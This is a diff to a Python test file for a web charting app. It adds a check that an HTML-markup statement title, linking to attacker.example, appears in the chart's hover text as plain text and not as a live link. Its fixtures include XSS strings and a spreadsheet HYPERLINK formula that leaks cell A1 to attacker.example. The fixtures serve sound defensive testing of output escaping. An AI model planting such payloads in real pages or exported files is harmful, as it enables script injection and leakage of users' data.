@@ -30,6 +30,8 @@ FLAGS = [
     "--disable-component-update", "--no-first-run", "--disable-sync",
 ]  # fmt: skip
 XSS = ["<script>alert('xss')</script> terrible service", "<img src=x onerror=alert(2)> so bad"]
+# A statement whose title is markup: shown as text wherever the page shows titles.
+HTML_TITLE = '<a href="https://attacker.example/">Click</a> <b style="color:red">now</b>'
 # A text a spreadsheet would run as a formula, were it written as it is.
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "click me") worst airline'
 
@@ -64,6 +66,13 @@ def site(tmp_path_factory: pytest.TempPathFactory, chromium_path: str) -> Iterat
         pushed = httpx.post(
             f"{base}/api/v1/documents", headers={"X-API-Key": key}, timeout=30,
             json={"entity": "northwind-air", "voice": "public", "documents": documents},
+        )  # fmt: skip
+        assert pushed.status_code == 200, pushed.text
+        statement = {"external_id": "html-title", "title": HTML_TITLE,
+                     "text": "We are pleased.", "created_at": "2025-07-15T14:00:00Z"}  # fmt: skip
+        pushed = httpx.post(
+            f"{base}/api/v1/documents", headers={"X-API-Key": key}, timeout=30,
+            json={"entity": "northwind-air", "voice": "corporate", "documents": [statement]},
         )  # fmt: skip
         assert pushed.status_code == 200, pushed.text
         yield base
@@ -307,3 +316,20 @@ def test_the_page_keeps_to_its_content_policy(site: str, chromium_path: str) -> 
         assert Path(download.value.path()).stat().st_size > 1000
         assert tab.evaluate("window.violations") == []
         browser.close()
+
+
+def test_a_statement_title_is_hovered_as_text(page: Any, site: str) -> None:
+    open_chart(page, site, **WEEK)
+    shown = page.evaluate(
+        """(title) => {
+            const chart = document.getElementById('chart');
+            const curve = chart.data.findIndex(t => t.meta && t.meta.role === 'statements');
+            const point = chart.data[curve].text.indexOf(title);
+            Plotly.Fx.hover(chart, [{curveNumber: curve, pointNumber: point}], 'xy4');
+            const layer = document.querySelector('.hoverlayer');
+            return {links: layer.querySelectorAll('a').length, text: layer.textContent, point};
+        }""",
+        HTML_TITLE,
+    )
+    assert shown["point"] >= 0
+    assert shown["links"] == 0 and '<a href="https://attacker.example/">Click</a>' in shown["text"]
